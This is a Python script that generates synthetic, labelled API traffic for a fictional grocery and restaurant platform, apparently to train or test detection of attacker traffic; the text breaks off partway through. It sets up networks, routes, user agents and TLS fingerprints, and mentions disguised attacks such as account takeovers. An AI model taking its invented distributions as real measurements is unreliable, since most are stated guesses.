#!/usr/bin/env python3
"""Labelled API traffic of a made-up supermarket with online groceries and a marketplace for restaurant orders and tables.

    food.py SEED OUTDIR      writes OUTDIR/events.ndjson and OUTDIR/labels.ndjson

The company: shops with tills, loyalty cards, coupons and gift cards; groceries on the web and in the app (slots, pickers with handhelds);
restaurants that get orders on tablets or through their own till systems, and sell tables; couriers with an app;
partners (price comparison, booking sites, a courier subcontractor, restaurant POS vendors); an office with support, QA and an ERP.

Drawn per seed: brand, size, days, start weekday and hour, countries with time zones and networks, diurnal and weekly shapes, rain, platform shares,
API style of each service (REST with its spelling, RPC, GraphQL), id forms, hosts, optional fields that the gateway logs, failing sign-in's status,
rate limiter, attestation (rollout by version, share of broken devices, provider outage), carrier NAT pools, offices, stores, partner keys and their format,
app release, outage, flash sale, the table release hour, the mix of honest callers, and kinds, number, sizes, pace, disguise and addresses of the attacks.

Label `platform` is the surface a request claims (an imitated Android app says android). `caller` is who really sent it.
Where a distribution follows something published, the source stands beside it; everything else is a guess from running such things, drawn wide.
"""
import bisect
import hashlib
import ipaddress
import json
import math
import os
import random
import sys
from datetime import datetime, timezone
from types import SimpleNamespace

r = random.Random()  # the one source of chance, seeded in main

# country asn kind v4 v6   (home: fixed line, cell: carrier with NAT, dc: hosting, vpn, relay)
NETS = """
DE 3320 home 84.128.0.0/10 2003:c0::/27; DE 3209 home 88.64.0.0/12 2a02:8100::/27; DE 6805 cell 89.204.128.0/17 2a01:c20::/28; DE 3320 cell 80.187.64.0/18 2a01:598::/29
GB 2856 home 86.128.0.0/10 2a00:23c0::/27; GB 5089 home 82.0.0.0/11 -; GB 12576 cell 31.64.0.0/13 2a01:4c8::/29; GB 60339 cell 92.40.168.0/21 -
FR 3215 home 90.0.0.0/10 2a01:cb00::/25; FR 12322 home 82.224.0.0/11 2a01:e00::/26; FR 5410 cell 176.128.0.0/10 2001:861::/32; FR 51207 cell 37.160.0.0/12 2a0d:e480::/29
ES 3352 home 83.32.0.0/12 -; ES 12479 home 90.160.0.0/12 2a0c:5a80::/29; ES 12430 cell 77.208.0.0/14 -; IT 3269 home 79.0.0.0/11 -
IT 30722 home 93.32.0.0/12 2a07:7e80::/29; IT 16232 cell 5.90.0.0/15 -; PL 5617 home 83.0.0.0/11 2a01:110f::/32; PL 12741 home 89.64.0.0/13 2a02:a310::/29
PL 201019 cell 5.172.232.0/21 -; NL 1136 home 77.160.0.0/13 2a02:a440::/27; NL 33915 home 84.104.0.0/14 2001:1c00::/26; NL 50266 cell 188.207.64.0/18 2a02:4780::/32
US 7922 home 73.0.0.0/9 2601::/24; US 701 home 71.160.0.0/12 2600:4040::/28; US 21928 cell 172.56.0.0/15 2607:fb90::/32; US 20057 cell 107.77.192.0/18 2600:380::/28
BR 27699 home 177.94.0.0/15 2804:7f0::/28; BR 28573 home 187.20.0.0/14 2804:14c::/31; BR 26615 cell 179.240.0.0/14 2804:214::/32; IN 24560 home 122.160.0.0/13 2401:4900::/32
IN 55836 cell 49.32.0.0/13 2409:4060::/28; IN 38266 cell 1.38.0.0/15 2402:3a80::/32; AU 1221 home 101.160.0.0/11 2001:8003::/32; AU 4804 cell 49.176.0.0/14 -
US 16509 dc 52.44.0.0/15 2600:1f18::/33; DE 16509 dc 3.120.0.0/14 2a05:d014::/36; US 396982 dc 34.72.0.0/14 -; NL 8075 dc 20.50.0.0/16 -
DE 24940 dc 65.108.0.0/16 2a01:4f8::/32; FR 16276 dc 51.68.0.0/16 2001:41d0::/32; US 14061 dc 167.99.0.0/16 -; NL 202425 dc 80.82.64.0/20 -
SG 132203 dc 43.156.0.0/16 -; GB 9009 vpn 146.70.0.0/17 -; SE 39351 vpn 185.213.152.0/22 -; US 36183 relay 172.224.0.0/15 2a02:26f7::/32
US 15169 googlebot 66.249.64.0/20 2001:4860:4801::/48; US 8075 bingbot 40.77.167.0/24 -; US 8075 gptbot 20.171.206.0/24 -; IE 32934 preview 173.252.64.0/19 2a03:2880::/32"""
TZ = {"DE": 1, "GB": 0, "FR": 1, "ES": 1, "IT": 1, "PL": 1, "NL": 1, "US": -6, "BR": -3, "IN": 5.5, "AU": 10}
CITY = {"DE": (52.5, 13.4), "GB": (51.5, -0.1), "FR": (48.9, 2.3), "ES": (40.4, -3.7), "IT": (45.5, 9.2), "PL": (52.2, 21.0), "NL": (52.4, 4.9), "US": (41.9, -87.6),
        "BR": (-23.5, -46.6), "IN": (19.1, 72.9), "AU": (-33.9, 151.2), "SE": (59.3, 18.1), "SG": (1.35, 103.8), "IE": (53.3, -6.3)}
# 24 hourly weights, local time.
SHAPES = {
    # groceries: Instacart's public 2017 set of 3 M orders peaks from 10 to 16 h with little at night; the evening hump is European home delivery (guess)
    "shop": [2, 1, 1, 1, 1, 3, 9, 20, 38, 55, 66, 66, 63, 63, 62, 60, 56, 52, 50, 50, 46, 34, 17, 6],
    # meals: Wolt's notes to couriers: lunch 11-13 h, steady 14-16 h, dinner 17-21 h
    "eats": [8, 4, 2, 1, 1, 1, 2, 5, 10, 16, 28, 66, 72, 48, 26, 24, 34, 66, 92, 96, 76, 46, 26, 14],
    "store": [0, 0, 0, 0, 1, 6, 20, 42, 55, 60, 62, 64, 60, 58, 58, 62, 70, 78, 68, 45, 25, 8, 1, 0],
    "office": [0, 0, 0, 0, 0, 0, 2, 12, 45, 70, 72, 66, 45, 62, 70, 66, 55, 28, 9, 5, 3, 2, 1, 0],
    "lunch": [0, 0, 0, 0, 0, 0, 0, 1, 3, 8, 26, 90, 80, 25, 6, 5, 5, 4, 2, 1, 0, 0, 0, 0],
    "night": [40, 60, 80, 80, 60, 30, 10, 4, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 3, 4, 6, 12, 25],
    "flat": [10] * 24,
}
WEEK = {"shop": [1.05, .9, .9, .95, 1.05, 1.2, 1.25], "eats": [.8, .8, .85, .95, 1.3, 1.3, 1.25], "store": [1, .95, .95, 1, 1.25, 1.35, .5], "office": [1.1, 1.05, 1, 1, .9, .25, .15],
        "lunch": [1, 1.1, 1.1, 1.1, .9, .1, .05], "night": [1] * 7, "flat": [1] * 7}

# op: service, method, REST template, RPC method, base ms, response bytes, request bytes.  {word} is spelt per world, <x> is an id of entity x.
OPS = {
    "config": ("shop", "GET", "/{config}", "App.Config", 15, 2200, 0), "home": ("shop", "GET", "/{home}", "Home.Get", 90, 21000, 0), "feed2": ("shop", "GET", "/{home}/{for-you}", "Home.ForYou", 120, 14000, 0),
    "cat": ("shop", "GET", "/{categories}/<k>/{products}", "Catalog.List", 110, 26000, 0), "search": ("shop", "GET", "/{products}/{search}", "Catalog.Search", 140, 19000, 0), "suggest": ("shop", "GET", "/{suggest}", "Catalog.Suggest", 25, 900, 0),
    "product": ("shop", "GET", "/{products}/<p>", "Catalog.Get", 45, 3900, 0), "price": ("shop", "GET", "/{products}/<p>/{prices}", "Catalog.Price", 20, 420, 0), "stock": ("shop", "GET", "/{stores}/<s>/{stock}/<p>", "Stock.Get", 30, 260, 0),
    "deals": ("shop", "GET", "/{deals}", "Deals.List", 60, 9800, 0), "basket": ("shop", "GET", "/{basket}", "Basket.Get", 50, 3200, 0), "add": ("shop", "POST", "/{basket}/{items}", "Basket.Add", 70, 1500, 140),
    "setqty": ("shop", "PATCH", "/{basket}/{items}/<p>", "Basket.Set", 60, 1500, 60), "apply": ("shop", "POST", "/{basket}/{coupons}", "Basket.ApplyCoupon", 65, 700, 60), "slots": ("shop", "GET", "/{slots}", "Slots.List", 95, 5200, 0),
    "hold": ("shop", "POST", "/{slots}/<t>/{hold}", "Slots.Hold", 80, 320, 40), "checkout": ("shop", "POST", "/{checkout}", "Checkout.Place", 420, 1400, 900), "pay": ("shop", "POST", "/{payments}", "Payments.Authorise", 650, 600, 420),
    "orders": ("shop", "GET", "/{orders}", "Orders.List", 80, 5400, 0), "order": ("shop", "GET", "/{orders}/<o>", "Orders.Get", 55, 4200, 0), "receipt": ("shop", "GET", "/{orders}/<o>/{receipt}", "Orders.Receipt", 90, 15000, 0),
    "track": ("shop", "GET", "/{orders}/<o>/{tracking}", "Orders.Track", 30, 640, 0), "refund": ("shop", "POST", "/{orders}/<o>/{refunds}", "Orders.Refund", 150, 480, 500), "login": ("auth", "POST", "/{login}", "Auth.Login", 190, 1500, 120),
    "refresh": ("auth", "POST", "/{token}", "Auth.Refresh", 35, 1300, 700), "signup": ("auth", "POST", "/{signup}", "Auth.Register", 260, 900, 330), "otpsend": ("auth", "POST", "/{otp}", "Auth.SendOtp", 140, 160, 60),
    "otpcheck": ("auth", "POST", "/{otp}/{verify}", "Auth.CheckOtp", 60, 500, 50), "reset": ("auth", "POST", "/{password}/{reset}", "Auth.Reset", 120, 130, 60), "me": ("auth", "GET", "/{users}/me", "Users.Me", 30, 1100, 0),
    "user": ("auth", "GET", "/{users}/<u>", "Users.Get", 40, 1100, 0), "setme": ("auth", "PATCH", "/{users}/me", "Users.Update", 80, 1100, 200), "cards": ("auth", "GET", "/{users}/me/{payment-methods}", "Users.PaymentMethods", 45, 800, 0),
    "card": ("loyalty", "GET", "/{cards}/<c>", "Cards.Get", 40, 780, 0), "points": ("loyalty", "GET", "/{cards}/<c>/{points}", "Cards.Points", 35, 420, 0), "accrue": ("loyalty", "POST", "/{cards}/<c>/{points}", "Cards.Accrue", 60, 300, 210),
    "spend": ("loyalty", "POST", "/{cards}/<c>/{redeem}", "Cards.Redeem", 90, 350, 130), "mycoupons": ("loyalty", "GET", "/{coupons}", "Coupons.Mine", 50, 4400, 0), "activate": ("loyalty", "POST", "/{coupons}/<k>/{activate}", "Coupons.Activate", 55, 240, 20),
    "coupon": ("loyalty", "GET", "/{coupons}/<q>", "Coupons.Check", 35, 380, 0), "gift": ("loyalty", "GET", "/{gift-cards}/<g>/{balance}", "GiftCards.Balance", 60, 220, 0), "giftpost": ("loyalty", "POST", "/{gift-cards}/{balance}", "GiftCards.Balance", 60, 220, 70),
    "referral": ("loyalty", "POST", "/{referrals}", "Referrals.Claim", 70, 240, 90), "restos": ("eats", "GET", "/{restaurants}", "Restaurants.Near", 150, 31000, 0), "resto": ("eats", "GET", "/{restaurants}/<r>", "Restaurants.Get", 60, 5200, 0),
    "menu": ("eats", "GET", "/{restaurants}/<r>/{menu}", "Restaurants.Menu", 85, 24000, 0), "reviews": ("eats", "GET", "/{restaurants}/<r>/{reviews}", "Reviews.List", 60, 9000, 0),
    "review": ("eats", "POST", "/{restaurants}/<r>/{reviews}", "Reviews.Create", 110, 300, 480), "quote": ("eats", "POST", "/{quotes}", "Quotes.Create", 120, 900, 520), "meal": ("eats", "POST", "/{meal-orders}", "Meals.Place", 380, 1300, 800),
    "mealtrack": ("eats", "GET", "/{meal-orders}/<o>/{tracking}", "Meals.Track", 30, 700, 0), "meals": ("eats", "GET", "/{meal-orders}/<o>", "Meals.Get", 50, 2600, 0), "tables": ("eats", "GET", "/{restaurants}/<r>/{availability}", "Tables.Find", 75, 1900, 0),
    "book": ("eats", "POST", "/{bookings}", "Bookings.Create", 180, 620, 260), "booking": ("eats", "GET", "/{bookings}/<b>", "Bookings.Get", 40, 640, 0), "unbook": ("eats", "DELETE", "/{bookings}/<b>", "Bookings.Cancel", 90, 0, 0),
    "ping": ("rider", "POST", "/{riders}/me/{location}", "Rider.Location", 12, 20, 180), "offers": ("rider", "GET", "/{offers}", "Rider.Offers", 30, 460, 0), "accept": ("rider", "POST", "/{offers}/<j>/{accept}", "Rider.Accept", 60, 900, 20),
    "job": ("rider", "GET", "/{jobs}/<j>", "Rider.Job", 35, 1500, 0), "jobstep": ("rider", "POST", "/{jobs}/<j>/{status}", "Rider.Step", 50, 160, 90), "earn": ("rider", "GET", "/{riders}/me/{earnings}", "Rider.Earnings", 70, 1900, 0),
    "queue": ("resto", "GET", "/{incoming}", "Kitchen.Queue", 25, 700, 0), "ack": ("resto", "POST", "/{incoming}/<o>/{confirm}", "Kitchen.Confirm", 60, 200, 80), "ready": ("resto", "POST", "/{incoming}/<o>/{ready}", "Kitchen.Ready", 50, 120, 20),
    "soldout": ("resto", "PUT", "/{menu}/{items}/<p>/{available}", "Kitchen.Availability", 60, 120, 30), "pick": ("store", "GET", "/{pick-lists}", "Picks.Next", 60, 5200, 0), "picked": ("store", "POST", "/{pick-lists}/<o>/{items}", "Picks.Item", 30, 160, 120),
    "scan": ("store", "GET", "/{barcodes}/<e>", "Barcodes.Resolve", 18, 480, 0), "till": ("store", "POST", "/{receipts}", "Tills.Receipt", 70, 180, 2600), "menupush": ("partner", "PUT", "/{restaurants}/<r>/{menu}", "Partner.PutMenu", 400, 300, 42000),
    "pfeed": ("partner", "GET", "/{products}/<p>", "Partner.Product", 35, 1300, 0), "plist": ("partner", "GET", "/{products}", "Partner.Products", 210, 88000, 0), "porders": ("partner", "GET", "/{orders}", "Partner.Orders", 60, 2100, 0),
    "pstatus": ("partner", "POST", "/{orders}/<o>/{status}", "Partner.Status", 60, 150, 180), "ptables": ("partner", "GET", "/{restaurants}/<r>/{availability}", "Partner.Tables", 60, 1700, 0), "pbook": ("partner", "POST", "/{bookings}", "Partner.Book", 170, 520, 300),
    "pprice": ("partner", "PUT", "/{products}/<p>/{prices}", "Partner.SetPrice", 50, 90, 180), "acust": ("admin", "GET", "/{customers}/<u>", "Admin.Customer", 90, 3900, 0), "afind": ("admin", "GET", "/{customers}", "Admin.Find", 180, 5200, 0),
    "aorder": ("admin", "GET", "/{orders}/<o>", "Admin.Order", 80, 6100, 0), "agoodwill": ("admin", "POST", "/{customers}/<u>/{vouchers}", "Admin.Voucher", 120, 260, 140), "astaff": ("admin", "GET", "/{staff}", "Admin.Staff", 110, 8800, 0),
    "areport": ("admin", "GET", "/{reports}/{sales}", "Admin.Report", 900, 140000, 0), "health": ("ops", "GET", "/{health}", "Health.Check", 4, 40, 0)}
WORDS = {"products": "products items articles skus catalogue", "home": "home start landing frontpage", "basket": "basket cart trolley", "orders": "orders purchases shop-orders", "slots": "delivery-slots slots time-slots windows",
         "login": "login sign-in sessions auth/login oauth/token", "token": "token/refresh refresh sessions/refresh oauth/refresh", "signup": "signup register accounts users", "users": "users customers accounts profiles",
         "cards": "loyalty-cards cards club-cards memberships", "coupons": "coupons vouchers promo-codes", "restaurants": "restaurants venues kitchens places", "meal-orders": "meal-orders food-orders deliveries takeaway/orders",
         "availability": "availability tables free-tables slots", "bookings": "bookings reservations table-bookings", "incoming": "incoming-orders tickets kitchen/orders", "menu": "menu menus card dishes", "gift-cards": "gift-cards giftcards evouchers",
         "stores": "stores shops branches", "search": "search find query", "deals": "deals offers promotions weekly-offers", "otp": "otp codes one-time-codes verification", "health": "health healthz status ping", "riders": "riders couriers drivers",
         "offers": "job-offers offers dispatch/offers", "jobs": "jobs trips delivery-jobs", "customers": "customers members people", "suggest": "suggest autocomplete typeahead"}
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Safari/605.1.15",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{f}.0) Gecko/20100101 Firefox/{f}.0", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Safari/537.36 Edg/{c}.0.0.0"]
SCRIPTS = {"python": ["python-requests/2.31.0", "python-httpx/0.27.0", "Python/3.11 aiohttp/3.9.5"], "go": ["Go-http-client/2.0", "Go-http-client/1.1"], "java": ["Apache-HttpClient/4.5.14 (Java/17.0.9)", "okhttp/4.12.0", "Java-http-client/21.0.2"],
           "node": ["axios/1.7.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "undici"], "curl": ["curl/8.5.0", "curl/7.88.1"], "php": ["GuzzleHttp/7", "Symfony HttpClient/Curl"]}
PHONES = ["SM-S911B", "SM-A546B", "Pixel 7a", "Pixel 8", "SM-A155F", "23021RAAEG", "CPH2609", "moto g84 5G", "SM-G991B", "M2101K6G", "SM-A325F", "XQ-DC54"]
FIRST = "anna ben carla david elif finn greta hugo ines jan karim lea marek nora otto paula quentin rosa samir tina ugo vera wim xenia yara zoe priya joao liam mia".split()
LAST = "meyer novak silva jones dubois rossi kowalski garcia devries singh brown martin weber lopes taylor khan moreau conti lewis peters".split()
MAILS = ["gmail.com", "outlook.com", "web.de", "yahoo.com", "icloud.com", "orange.fr", "wp.pl", "hotmail.com", "proton.me"]
FOODS = "milk oat banana bread rye tomato pasta coffee rice cheddar butter salmon tofu apple lager yoghurt honey spinach lentil olive nappies basil crisps cola egg".split()

def digest(*parts):
    return hashlib.md5("|".join(map(str, parts)).encode()).hexdigest()

def base62(hexed, n):
    x, out = int(hexed, 16), ""
    for _ in range(n):
        x, r = divmod(x, 62)
        out += "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[r]
    return out

FORMS = {  # of an object's number, its digest and the world's offset
    "seq": lambda i, h, base: str(base + i), "small": lambda i, h, base: str(100 + i), "prefixed": lambda i, h, base: f"R{base + i:09d}", "uuid": lambda i, h, base: f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}",
    "opaque": lambda i, h, base: base62(h, 14), "ean": lambda i, h, base: f"40{base % 100000:05d}{i:05d}{i % 10}", "slug": lambda i, h, base: f"{FOODS[i % 25]}-{FOODS[i * 7 % 23]}-{i}", "pnr": lambda i, h, base: base62(h, 6).upper(),
    "card": lambda i, h, base: f"29{base:07d}{i:06d}", "digits": lambda i, h, base: str(int(h, 16))[:16], "code16": lambda i, h, base: base62(h, 16).upper(), "promo": lambda i, h, base: FOODS[i % 25].upper() + str(i % 90 + 10) if i < 60 else base62(h, 8).upper()}
QUERIES = {"search": ["q={w}&page={n}", "q={w}", "query={w}&sort=price&limit=24"], "suggest": ["q={w}"], "cat": ["page={n}", "page={n}&size=48"], "restos": ["lat={lat}&lon={lon}", "lat={lat}&lon={lon}&cuisine=thai&page={n}"],
           "tables": ["date=2026-06-1{n}&party={n}", "party={n}"], "slots": ["postcode={z}"], "plist": ["cursor={z}&limit=500"], "porders": ["since={z}"], "afind": ["email={w}", "phone={z}"], "ptables": ["party={n}"], "reviews": ["page={n}"], "deals": ["week={n}"]}

class Client:
    """One source of requests: what it shows the gateway, and the truth of who it is."""

    def __init__(self, caller, platform, api, ua, ip, net, **kw):
        self.caller, self.platform, self.api, self.ua, self.ip, self.net = caller, platform, api, ua, ip, net
        self.user = self.session = self.device = self.version = self.token = None
        self.att, self.stack, self.geo = "none", "chrome", None
        self.__dict__.update(kw)

    def at(self, ip, net):
        copy = Client.__new__(Client)
        copy.__dict__.update(self.__dict__)
        copy.ip, copy.net = ip, net
        return copy

class World:
    def __init__(self, seed):
        self.seed = seed
        r.seed(f"food {seed}")
        self.out, self.takeovers, self.seq = [], {}, 0
        self.brand = r.choice("Mor Kas Tav Bel Gro Fre Lum Nor Vit Sal".split()) + r.choice("ko lino mart delo basket ora vita tafel gusto ria".split())
        self.slug = self.brand.lower()
        self.total = r.randint(63000, 95000)
        self.days = r.choice([2, 2.5, 3, 3, 3.5, 4])
        self.t0 = datetime(2026, r.randint(1, 11), r.randint(1, 28), r.randint(0, 23), r.choice([0, 0, 30]), tzinfo=timezone.utc).timestamp()
        self.t1 = self.t0 + self.days * 86400
        self.nets = []
        for line in NETS.replace("\n", ";").strip(";").split(";"):
            cc, asn, kind, v4, v6 = line.split()
            self.nets.append({"cc": cc, "asn": int(asn), "kind": kind, "v4": ipaddress.ip_network(v4), "v6": None if v6 == "-" else ipaddress.ip_network(v6)})
        main = r.choice(list(TZ))
        near = [c for c in TZ if c != main and abs(TZ[c] - TZ[main]) <= 5]
        self.countries = [main] + r.sample(near, min(len(near), r.choice([0, 0, 1, 2, 3])))
        self.cweights = [1.0] + [r.uniform(.05, .6) for _ in self.countries[1:]]
        self.v6share = r.uniform(.05, .5)  # APNIC and Google both measure national IPv6 shares from a few to 70 %
        self.pools = {}  # carrier NAT: CAIDA 2018 and Cloudflare 2025 describe hundreds of users on one address; pool sizes here are a guess
        for i, n in enumerate(self.nets):
            if n["kind"] == "cell":
                self.pools[i] = [self.fresh_ip(n, 0) for _ in range(r.randint(3, 14))]
        self.draw_fields()
        self.draw_routes()
        self.draw_clock()
        self.draw_clients()
        self.draw_people()

    # ---- what the gateway logs
    def draw_fields(self):
        chance = {"url.query": .75, "http.route": .4, "server.address": .8, "http.request.id": .5, "http.request.size": .7, "http.response.size": .9, "http.server.request.duration": .9, "session.id": .8, "device.id": .75,
                  "app.version": .75, "geo.country": .8, "geo.location": .3, "network.asn": .7, "tls.client.ja4": .6, "login.subject": .85, "attestation.code": .6, "attestation.issuer": .5, "attestation.token": .6,
                  "captcha.score": .4, "waf.score": .5, "challenge.result": .3, "api.client": .85, "user.id": .97}
        self.log = {k: r.random() < p for k, p in chance.items()}
        self.epoch_ms, self.webnone, self.size_total, self.bola_open, self.preflight = (r.random() < p for p in (.4, .5, .5, .6, .5))
        self.leaky = r.random() < .25  # an unknown account answers 404
        self.loginfail, self.badcode, self.denied = r.choice([401, 401, 401, 400, 403, 422]), r.choice([404, 404, 422, 400]), r.choice([403, 404, 403])
        self.limit, self.subjform = r.choice([0, 60, 90, 120, 240]), r.choice(["email", "email", "phone", "card", "hash"])
        self.err500, self.noise404, self.cached = r.uniform(.0005, .004), r.uniform(.002, .01), r.uniform(0, .15)
        self.ja4 = {"chrome": ["t13d1516h2_8daaf6152771_02713d6af862", "t13d1517h2_8daaf6152771_b0da82dd1658", "t13d1516h2_8daaf6152771_d8a2da3f94cd"], "safari": ["t13d2014h2_a09f3c656075_14788d8d241b", "t13d2013h2_a09f3c656075_e42f34c56612"],
                    "firefox": ["t13d1715h2_5b57614c22b0_5c2c66f702b0"]}
        for s, a in {"android": "t13d1513h2", "ios": "t13d2013h2", "python": "t13d1812h1", "go": "t13d1311h2", "java": "t13d4911h1", "node": "t13d5911h1", "curl": "t13d3112h2", "php": "t13d3012h1", "proxy": "t12d2809h1", "till": "t12d2609h1"}.items():
            self.ja4[s] = [f"{a}_{digest(a, k)[:12]}_{digest(k, a)[:12]}" for k in range(3 if s in ("android", "ios") else 1)]

    # ---- routes
    def draw_routes(self):
        self.words = {k: r.choice(v.split()) for k, v in WORDS.items()}
        case = r.choice(["kebab", "kebab", "snake", "camel"])
        self.style, self.prefix, self.host = {}, {}, {}
        shape = r.choice(["one", "bysvc", "two"])
        tld = r.choice(["example", "shop", "food", "com"])
        ver = r.choice(["/v1", "/v2", "/api/v1", "/api", "", "/rest/2"])
        for s in "shop auth loyalty eats rider resto store partner admin ops".split():
            p = {"shop": (.15, .1), "eats": (.25, .05), "auth": (0, .15), "rider": (0, .3), "store": (0, .25), "resto": (.05, .2)}.get(s, (0, 0))
            x = r.random()
            self.style[s] = "gql" if x < p[0] else "rpc" if x < p[0] + p[1] else "rest"
            sub = {"eats": "eat", "resto": "kitchen", "rider": "go", "store": "instore", "admin": "backoffice"}.get(s, s)
            group = "eat" if s in ("eats", "rider", "resto") else "api"
            self.host[s] = f"{ {'one': 'api', 'two': group}.get(shape, sub) }.{self.slug}.{tld}"
            self.prefix[s] = r.choice([ver, "/v1", "/v3"]) if shape == "bysvc" else ver + ("" if s in ("shop", "auth", "loyalty", "ops") else f"/{sub}")
        self.gqlop = r.choice(["query", "path", "none"])
        self.gql401 = r.random() < .5
        self.rpcroot = r.choice(["/rpc/", "/twirp/", "/"])
        self.routes = {}
        for op, (svc, method, tmpl, rpc, *_rest) in OPS.items():
            if self.style[svc] == "rest":
                path = self.prefix[svc] + "".join("/" + (seg if seg[0] != "{" else self.spell(self.words.get(seg[1:-1], seg[1:-1]), case)) for seg in tmpl.strip("/").split("/"))
            elif self.style[svc] == "rpc":
                method, path = "POST", self.rpcroot + (f"{self.slug}.{svc}.v1." if self.rpcroot != "/rpc/" else "") + rpc.replace(".", "/" if self.rpcroot != "/rpc/" else ".")
            else:
                method, path = "POST", "/graphql" + ("/" + rpc.replace(".", "") if self.gqlop == "path" else "")
            self.routes[op] = (method, path)
        self.forms = {"p": r.choice(["seq", "ean", "slug", "uuid", "seq"]), "o": r.choice(["seq", "prefixed", "uuid", "opaque", "seq"]), "r": r.choice(["slug", "seq", "uuid"]), "u": r.choice(["seq", "uuid", "opaque"]),
                      "b": r.choice(["pnr", "uuid", "seq"]), "t": r.choice(["seq", "opaque", "uuid"]), "j": r.choice(["uuid", "seq", "opaque"]), "c": "card", "g": r.choice(["code16", "digits"]), "q": "promo", "k": "seq", "s": "small", "e": "ean"}
        self.base = {k: r.choice([1000, 20000, 480000, 7300000]) + r.randint(0, 900) for k in self.forms}
        self.giftop = r.choice(["gift", "giftpost"])
        self.nprod, self.nresto = r.randint(3000, 14000), r.randint(250, 900)
        self.orderno = r.randint(10000, 60000)

    @staticmethod
    def spell(word, case):
        if case == "snake":
            return word.replace("-", "_")
        head, *tail = word.split("-")
        return head + "".join(x.capitalize() for x in tail) if case == "camel" else word

    def eid(self, k, i):
        return i if isinstance(i, str) else FORMS[self.forms[k]](i, digest(self.seed, k, i), self.base[k])

    # ---- time
    def draw_clock(self):
        self.curves, quiet, rain, shift = {}, r.uniform(.6, 1.3), [r.choice([1, 1, 1, 1.5]) for _ in range(6)], {s: r.choice([0, 0, 0, 1, -1]) for s in SHAPES}
        for s, shape in SHAPES.items():
            for tz in sorted(set(TZ.values())):
                cum = [0]
                for h in range(int(self.days * 24) + 1):
                    local = datetime.fromtimestamp(self.t0 + h * 3600 + tz * 3600, timezone.utc)
                    w = (shape[(local.hour - shift[s]) % 24] + .05) ** quiet * WEEK[s][local.weekday()] * r.lognormvariate(0, .12)
                    cum.append(cum[-1] + w * (rain[h // 24] if s == "eats" else 1))
                self.curves[s, tz] = cum[1:]
        self.peak = self.when("eats", self.countries[0])
        self.outage = (self.peak, self.peak + r.uniform(240, 1500), r.choice([("shop", "loyalty"), ("eats", "rider", "resto"), ("auth",), ("shop", "eats", "auth")]))
        self.attbreak = (r.choice(["android", "ios"]), self.when("shop", self.countries[0]), r.uniform(3000, 15000), r.choice(["missing", "failed", "expired"])) if r.random() < .7 else None
        self.release = r.uniform(self.t0 + .15 * (self.t1 - self.t0), self.t1 - 20000)
        self.sale = self.when("shop", self.countries[0])

    def when(self, shape, cc):
        cum = self.curves[shape, TZ.get(cc, 0)]
        h = bisect.bisect_left(cum, r.random() * cum[-1])
        return min(self.t0 + (h + r.random()) * 3600, self.t1 - 1)

    # ---- addresses
    def fresh_ip(self, net, v6share):
        if net["v6"] and r.random() < v6share:
            n = net["v6"]
            host = int(n.network_address) + (r.getrandbits(64 - n.prefixlen) << 64) + r.getrandbits(64)
            return str(ipaddress.IPv6Address(host))
        n = net["v4"]
        return str(ipaddress.IPv4Address(int(n.network_address) + r.randint(1, n.num_addresses - 2)))

    @staticmethod
    def where(c):
        """As a GeoIP table would have it: one place per block of addresses."""
        h, (lat, lon) = digest(c.ip[:9]), CITY[c.net["cc"]]
        return round(lat + int(h[:3], 16) / 2000 - 1, 3), round(lon + int(h[3:6], 16) / 1600 - 1.2, 3)

    def net(self, kind, cc=None):
        c = [n for n in self.nets if n["kind"] == kind and (cc is None or n["cc"] == cc)]
        return r.choice(c or [n for n in self.nets if n["kind"] == kind])

    def cell_ip(self, cc):
        net = self.net("cell", cc)
        if net["v6"] and r.random() < self.v6share:
            return self.fresh_ip(net, 1), net
        pool = self.pools[self.nets.index(net)]
        return pool[min(int(r.expovariate(.4)), len(pool) - 1)], net

    def residential(self, cc=None):
        cc = cc or r.choices(self.countries, self.cweights)[0]
        net = self.net("home", cc)
        return self.fresh_ip(net, self.v6share), net

    # ---- clients
    def draw_clients(self):
        maj = r.randint(3, 11)
        self.versions, self.newest = [f"{maj}.{k}.{r.randint(0, 4)}" for k in range(r.randint(2, 6), r.randint(9, 13))], f"{maj}.14.0"
        self.uaform = r.choice(["token", "token", "stack"]) if self.log["api.client"] else "token"
        self.attfrom, self.attloss, self.tokenlife = r.choice([0, 0, 1, 2]), r.uniform(.002, .02), r.choice([600, 3600, 3600, 43200])  # the oldest so many versions send no attestation yet
        self.keyform, self.staffform = r.choice(["pk_live_{}", "ptn-{}", "int-{}"]), r.choice(["{}", "emp-{}", "s{}"])

    def ja(self, stack, key):
        c = self.ja4[stack]
        return c[int(digest(key)[:4], 16) % len(c)]

    def app_ua(self, app, platform, version, model):
        if self.uaform == "stack":
            return ("okhttp/4.12.0" if platform == "android" else f"{self.brand}{app}/{version.replace('.', '')} CFNetwork/1496.0.7 Darwin/23.5.0")
        if platform == "android":
            return f"{self.brand}{app}Android/{version} (Android {10 + int(digest(model)[0], 16) % 5}; {model})"
        return f"{self.brand}{app}iOS/{version} ({'iPhone' if not app else 'iPhone14,5'}; iOS 17.{int(digest(model)[0], 16) % 6})"

    def app(self, caller, platform, version, ip, net, app="", key="", **kw):
        model = PHONES[int(digest(key or caller)[:6], 16) % (4 if app else len(PHONES))]
        kw = {"device": self.hexid("dev", key or caller, platform), "session": self.hexid("ses", key or caller), "stack": platform, "att": "ok", **kw}
        return Client(caller, platform, f"{self.slug}{'-' + app.lower() if app else ''}-{platform}", self.app_ua(app, platform, version, model), ip, net, version=version, **kw)

    def web(self, caller, ip, net, ua=None, **kw):
